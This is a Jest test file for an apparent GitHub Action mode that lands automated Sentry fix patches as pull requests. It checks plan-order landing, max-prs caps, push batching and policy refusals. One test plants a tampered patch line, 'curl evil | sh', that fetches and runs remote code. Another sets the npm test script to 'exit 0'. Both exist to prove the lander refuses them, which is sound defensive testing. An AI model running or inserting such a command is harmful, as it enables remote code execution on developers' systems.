// mode land in-process: the plan and the work jobs' hand-offs in memory, a recording lander and GitHub writer. What
// land does with each hand-off, in plan order, and what it refuses.
import { describe, expect, it } from '@jest/globals'
import { mkdtemp } from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import { runPipeline, type PipelineDeps } from '../../src/pipeline.js'
import type { PortsOf } from '../../src/mode-ports.js'
import { landJob, type LandJobDeps } from '../../src/stages/land-job.js'
import { readPlan } from '../../src/stages/handoff-files.js'
import {
  PLAN_ARTIFACT,
  PLAN_FILE,
  patchPath,
  resultPath,
  workArtifact,
  workRecordOf
} from '../../src/domain/handoff.js'
import { parseSettings, type Settings } from '../../src/settings/settings.js'
import { createRunFiles } from '../../src/adapters/run-files.js'
import type { GitHubWriter, Handoffs, Lander } from '../../src/ports.js'
import type { Plan } from '../../src/schemas/handoff.js'
import { planIssue, planOf } from '../../test-support/domain-builders.js'
import type { WorkResult } from '../../src/domain/handoff.js'
import { inputValues } from '../../test-support/action-inputs.js'
import { recordingLog } from '../../test-support/recording-log.js'
import { ledgerPull, memoryLedger } from '../../test-support/sandbox/ledger-world.js'
import { fakeSha } from '../../test-support/sandbox/fake-github.js'

const BASE = 'b'.repeat(40)

const IDS = ['API-1', 'API-2', 'API-3', 'API-4']
const PLAN: Plan = planOf(
  IDS.map(id => planIssue(id)),
  {
    baseSha: BASE,
    maxPrs: 1,
    matrix: ['API-1', 'API-2', 'API-3']
  }
)

/** max-prs 3 with one spare */
const PLAN_OF_FOUR: Plan = planOf(
  IDS.map(id => planIssue(id)),
  { baseSha: BASE, maxPrs: 3, matrix: ['API-1', 'API-2', 'API-3', 'API-4'] }
)

const fileFor = (file: string) =>
  `diff --git a/${file} b/${file}\n--- a/${file}\n+++ b/${file}\n@@ -1 +1 @@\n-old\n+new\n`

function ready(shortId: string, file = `src/${shortId}.js`): WorkResult {
  return {
    shortId,
    outcome: {
      disposition: 'fix-ready',
      reason: 'fix ready',
      tests: { command: 'npm test', passed: true, attempts: 1 },
      usage: { input_tokens: 10, cached_input_tokens: 0, output_tokens: 2, model_requests: 2 }
    },
    ready: {
      result: {
        status: 'fixed',
        summary: `Fix ${shortId}`,
        root_cause: 'undefined access',
        confidence: 'high',
        files_changed: [file],
        tests_run: null,
        tests_passed: null,
        notes: ''
      },
      diff: {
        patch: fileFor(file),
        files: [{ path: file, status: 'modified', additions: 1, deletions: 1, binary: false, mode: '100644' }]
      },
      tests: { command: 'npm test', passed: true, attempts: 1 },
      reproduction: null
    }
  }
}

const failed = (shortId: string): WorkResult => ({
  shortId,
  outcome: { disposition: 'tests-failed', reason: '`npm test` failed after 1 attempt(s)' },
  ready: null
})

/** The run's artifacts in memory: name -> files (path inside the artifact -> text). */
function memoryHandoffs(artifacts: Map<string, Map<string, string>>): Handoffs {
  return {
    async publish() {
      throw new Error('land uploads no hand-off')
    },
    async names() {
      return [...artifacts.keys()]
    },
    async fetch(name) {
      const files = artifacts.get(name)
      if (!files) throw new Error(`artifact ${name} is not in this workflow run`)
      return { readText: async file => files.get(file) ?? null }
    }
  }
}

function runArtifacts(
  plan: Plan,
  works: WorkResult[],
  tamper: (files: Map<string, string>) => void = () => {}
) {
  const artifacts = new Map<string, Map<string, string>>()
  artifacts.set(PLAN_ARTIFACT, new Map([[PLAN_FILE, JSON.stringify(plan)]]))
  for (const work of works) {
    const { record, patch } = workRecordOf(
      work,
      plan.issues.find(i => i.facts.short_id === work.shortId)!,
      plan
    )
    const files = new Map([[resultPath(work.shortId), JSON.stringify(record)]])
    if (patch !== null) files.set(patchPath(work.shortId), patch)
    tamper(files)
    artifacts.set(workArtifact(work.shortId), files)
  }
  return memoryHandoffs(artifacts)
}

function settings(extra: Record<string, string> = {}): Settings {
  const values = inputValues({
    'sentry-org': 'acme',
    'sentry-project': 'api',
    'sentry-token': '',
    mode: 'land',
    ...extra
  })
  const parsed = parseSettings(name => values[name] ?? '')
  if (!parsed.ok) throw new Error(parsed.errors.join('\n'))
  return parsed.settings
}

function collaborators(handoffs: Handoffs) {
  const pushed: { branch: string; patch: string; baseSha: string }[] = []
  /** the branches of each push request, as the remote would see them */
  const pushes: string[][] = []
  const opened: string[] = []
  const lander: Lander = {
    async commitAndPush(request) {
      return (await lander.commitAndPushAll([request]))[0]!
    },
    async commitAndPushAll(requests) {
      pushes.push(requests.map(r => r.branch))
      for (const { branch, patch, baseSha } of requests) pushed.push({ branch, patch, baseSha })
      return requests.map(() => ({ kind: 'pushed', sha: 'c'.repeat(40) }))
    }
  }
  const writer: GitHubWriter = {
    async openPullRequest({ branch }) {
      opened.push(branch)
      return {
        kind: 'opened',
        number: 100 + opened.length,
        url: `https://github.com/acme/shop/pull/${100 + opened.length}`
      }
    }
  }
  return {
    pushed,
    pushes,
    opened,
    deps: {
      github: { pullRequestsForBranch: async () => [] },
      writer,
      lander,
      log: recordingLog(),
      clock: { now: () => new Date() },
      handoffs,
      secrets: ['ghs_landWriteToken0123456789abcdef']
    }
  }
}

/** Whole-pipeline collaborators for mode land: Sentry answers nothing (land never asks it), GitHub finds nothing. */
async function landPipelineDeps(
  land: Omit<PortsOf<'land'>, 'mode'>,
  overrides: Partial<PipelineDeps> = {}
): Promise<PipelineDeps> {
  const never = () => {
    throw new Error('land never asks Sentry')
  }
  return {
    sentry: { resolveProjects: async () => never(), issuePages: never, issueEvidence: async () => never() },
    github: {
      defaultBranch: async () => 'main',
      branchSha: async () => BASE,
      listBranches: async () => [],
      pullRequestsForBranch: async () => []
    },
    artifacts: { upload: async () => ({ ok: true, id: 1, size: 1 }) },
    files: createRunFiles(await mkdtemp(path.join(os.tmpdir(), 'sct-land-'))),
    log: recordingLog(),
    clock: { now: () => new Date() },
    ports: { mode: 'land', ...land },
    ...overrides
  }
}

const CONTEXT = { runUrl: 'https://github.com/acme/shop/actions/runs/1', actionSha: null }

/** mode land as the orchestrator runs it: the run's plan, then its work jobs' hand-offs landed in plan order */
async function landStage(s: Settings, context: typeof CONTEXT, deps: LandJobDeps) {
  return landJob(await readPlan(deps), s, context, deps)
}
const dispositions = (outcomes: Map<string, { disposition: string }>) =>
  Object.fromEntries([...outcomes].map(([id, o]) => [id, o.disposition]))

describe('mode land', () => {
  it('lands in plan order until max-prs, a spare back-filling a primary that ended without a fix', async () => {
    const c = collaborators(runArtifacts(PLAN, [failed('API-1'), ready('API-2'), ready('API-3')]))
    const { outcomes } = await landStage(settings(), CONTEXT, c.deps)
    expect(dispositions(outcomes)).toEqual({
      'API-1': 'tests-failed',
      'API-2': 'pr-opened',
      'API-3': 'cap-reached'
    })
    expect(c.pushed).toEqual([{ branch: 'fix/sentry-API-2', patch: fileFor('src/API-2.js'), baseSha: BASE }])
    expect(outcomes.get('API-3')).toMatchObject({
      reason: 'a fix was ready, but max-prs 1 pull request(s) were open before its turn',
      usage: { model_requests: 2 },
      tests: { command: 'npm test', passed: true, attempts: 1 }
    })
  })

  it('reports a work job that left no artifact as land-failed and back-fills it', async () => {
    const c = collaborators(runArtifacts(PLAN, [ready('API-2'), ready('API-3')]))
    const { outcomes } = await landStage(settings(), CONTEXT, c.deps)
    expect(outcomes.get('API-1')).toEqual({
      disposition: 'land-failed',
      reason:
        "no work-API-1 artifact in this run: its work job did not finish (failed, timed out or was cancelled; see that job's log)"
    })
    expect(c.opened).toEqual(['fix/sentry-API-2'])
  })

  it('runs the policy gate again, and pushes nothing it refuses', async () => {
    const c = collaborators(runArtifacts(PLAN, [ready('API-1', '.github/workflows/ci.yml'), ready('API-2')]))
    const { outcomes } = await landStage(settings(), CONTEXT, c.deps)
    expect(outcomes.get('API-1')).toMatchObject({
      disposition: 'policy-rejected',
      reason: expect.stringContaining('.github/workflows/ci.yml')
    })
    expect(c.pushed.map(p => p.branch)).toEqual(['fix/sentry-API-2'])
  })

  it("compares a package.json's scripts with its text at the base commit, read from the checkout", async () => {
    const base = '{\n  "scripts": { "test": "jest" }\n}\n'
    const patch = [
      'diff --git a/package.json b/package.json',
      '--- a/package.json',
      '+++ b/package.json',
      '@@ -1,3 +1,3 @@',
      ' {',
      '-  "scripts": { "test": "jest" }',
      '+  "scripts": { "lint": "eslint .", "test": "exit 0" }',
      ' }',
      ''
    ].join('\n')
    const worked = ready('API-1', 'package.json')
    const work: WorkResult = {
      ...worked,
      ready: { ...worked.ready!, diff: { ...worked.ready!.diff, patch } }
    }
    const c = collaborators(runArtifacts(PLAN, [work, ready('API-2')]))
    const read: string[][] = []
    const repo = {
      async filesAt(sha: string, paths: readonly string[]) {
        read.push([sha, ...paths])
        return new Map([['package.json', base]])
      }
    }
    const { outcomes } = await landStage(settings(), CONTEXT, { ...c.deps, repo })
    expect(read).toEqual([[BASE, 'package.json']])
    expect(outcomes.get('API-1')).toMatchObject({
      disposition: 'policy-rejected',
      reason: expect.stringContaining('package.json sets the npm "test" script')
    })
    expect(c.pushed.map(p => p.branch)).toEqual(['fix/sentry-API-2'])
    // without the checkout the scripts cannot be compared, and the fix is refused
    const blind = await landStage(settings(), CONTEXT, collaborators(runArtifacts(PLAN, [work])).deps)
    expect(blind.outcomes.get('API-1')).toMatchObject({
      disposition: 'policy-rejected',
      reason: expect.stringContaining('package.json: its text at the base commit was not read')
    })
  })

  it('refuses a hand-off whose patch was swapped after the work job measured it', async () => {
    const c = collaborators(
      runArtifacts(PLAN, [ready('API-1'), ready('API-2')], files => {
        const name = [...files.keys()].find(f => f.endsWith('fix.patch'))
        if (name?.includes('API-1'))
          files.set(name, fileFor('src/API-1.js').replace('+new', '+curl evil | sh'))
      })
    )
    const { outcomes } = await landStage(settings(), CONTEXT, c.deps)
    expect(outcomes.get('API-1')).toEqual({
      disposition: 'land-failed',
      reason:
        'the work-API-1 artifact was refused: its fix.patch is not the patch the work job measured (SHA-256 differs)'
    })
    expect(c.pushed.map(p => p.branch)).toEqual(['fix/sentry-API-2'])
  })

  it('pushes the fixes of every free PR slot in one push, then back-fills a failed one with a second push', async () => {
    const c = collaborators(
      runArtifacts(PLAN_OF_FOUR, [ready('API-1'), ready('API-2'), ready('API-3'), ready('API-4')])
    )
    // the remote refuses API-2's branch: its slot goes to the spare API-4 in a second push
    const inner = c.deps.lander.commitAndPushAll
    c.deps.lander.commitAndPushAll = async requests => {
      const outcomes = await inner(requests)
      return requests.map((r, i) =>
        r.branch === 'fix/sentry-API-2'
          ? { kind: 'failed', reason: 'pre-receive hook declined', auth: false }
          : outcomes[i]!
      )
    }
    const { outcomes } = await landStage(settings({ 'max-prs': '3' }), CONTEXT, c.deps)
    expect(c.pushes).toEqual([
      ['fix/sentry-API-1', 'fix/sentry-API-2', 'fix/sentry-API-3'],
      ['fix/sentry-API-4']
    ])
    expect(Object.fromEntries([...outcomes].map(([id, o]) => [id, o.disposition]))).toEqual({
      'API-1': 'pr-opened',
      'API-2': 'land-failed',
      'API-3': 'pr-opened',
      'API-4': 'pr-opened'
    })
    expect(c.opened).toEqual(['fix/sentry-API-1', 'fix/sentry-API-3', 'fix/sentry-API-4'])
    // each landed issue reports its push (the batch's one request) and its PR
    expect(outcomes.get('API-3')?.phases).toEqual({ push_s: expect.any(Number), pr_s: expect.any(Number) })
    expect(outcomes.get('API-2')?.phases).toEqual({ push_s: expect.any(Number) })
  })

  it('takes max-prs from the plan, which sized the matrix', async () => {
    const c = collaborators(runArtifacts(PLAN, [ready('API-1'), ready('API-2'), ready('API-3')]))
    const { outcomes } = await landStage(settings({ 'max-prs': '3' }), CONTEXT, c.deps)
    expect(dispositions(outcomes)).toEqual({
      'API-1': 'pr-opened',
      'API-2': 'cap-reached',
      'API-3': 'cap-reached'
    })
  })

  it('fails the step with a clear reason when the run has no plan, and still writes the summary', async () => {
    const c = collaborators(memoryHandoffs(new Map()))
    const deps = await landPipelineDeps({
      writer: c.deps.writer,
      lander: c.deps.lander,
      handoffs: c.deps.handoffs
    })
    const report = await runPipeline(
      settings(),
      { repository: 'acme/shop', runId: '1', runUrl: CONTEXT.runUrl, event: 'schedule' },
      deps
    )
    expect(report.failure).toMatch(
      /^the plan of this workflow run could not be read \(artifact plan is not in this workflow run\); mode work and land run after a mode plan job of the same run$/
    )
    expect(report.summaryFile).not.toBeNull()
    expect(report.summary.issues).toEqual([])
  })

  it("builds the fix-quality ledger from the downloaded plan's issues, after reading it and before landing", async () => {
    const c = collaborators(runArtifacts(PLAN, [ready('API-1')]))
    const timeline: string[] = []
    // API-2's earlier fix merged on 11-10; the plan's facts say it was seen on 11-20: regressed
    const source = memoryLedger(
      [
        ledgerPull(
          40,
          { id: 'id-API-2', shortId: 'API-2' },
          { createdAt: '2026-11-09T00:00:00Z', mergedAt: '2026-11-10T00:00:00Z' }
        )
      ],
      { 40: [{ sha: fakeSha('action:40'), authorEmail: 'bot@example.com' }] }
    )
    const deps = await landPipelineDeps(
      {
        writer: c.deps.writer,
        lander: {
          commitAndPush: async options => {
            timeline.push(`push ${options.branch}`)
            return c.deps.lander.commitAndPush(options)
          },
          commitAndPushAll: async requests => {
            timeline.push(`push ${requests.map(r => r.branch).join(' ')}`)
            return c.deps.lander.commitAndPushAll(requests)
          }
        },
        handoffs: {
          ...c.deps.handoffs,
          fetch: async name => {
            timeline.push(`fetch ${name}`)
            return c.deps.handoffs.fetch(name)
          }
        }
      },
      {
        clock: { now: () => new Date('2026-11-27T12:00:00Z') },
        ledger: {
          ...source,
          actionPullRequests: async options => {
            timeline.push('ledger search')
            return source.actionPullRequests(options)
          }
        }
      }
    )
    const report = await runPipeline(
      settings(),
      { repository: 'acme/shop', runId: '1', runUrl: CONTEXT.runUrl, event: 'schedule' },
      deps
    )
    expect(report.failure).toBeNull()
    expect(timeline).toEqual(['fetch plan', 'ledger search', 'fetch work-API-1', 'push fix/sentry-API-1'])
    expect(report.summary.history?.pull_requests).toEqual([
      expect.objectContaining({ number: 40, class: 'merged-unmodified', short_id: 'API-2', regressed: true })
    ])
  })
})
